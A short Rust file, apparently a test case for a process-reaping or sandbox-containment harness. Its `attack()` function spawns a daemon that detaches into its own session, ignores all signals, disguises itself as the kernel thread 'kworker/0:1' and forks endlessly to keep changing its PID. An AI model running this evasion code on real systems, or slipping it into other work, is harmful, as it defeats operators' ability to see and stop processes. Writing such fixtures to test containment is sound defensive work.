//! Leaves a daemon: in a session of its own, deaf to every signal that can be ignored,
//! under another name, forking on and on to change its number.
//!
//! exercise: reap
//! rest: reap
//! verdict: tidy [running]

fn attack() {
    unsafe {
        let child = libc::fork();
        if child == 0 {
            libc::setsid();
            for signal in 1..65 {
                libc::signal(signal, libc::SIG_IGN);
            }
            libc::prctl(libc::PR_SET_NAME, c"kworker/0:1".as_ptr());
            libc::prctl(libc::PR_SET_PDEATHSIG, 0);
            loop {
                if libc::fork() != 0 {
                    libc::_exit(0);
                }
                libc::setsid();
                libc::usleep(1000);
            }
        }
        libc::waitpid(child, std::ptr::null_mut(), 0);
    }
}
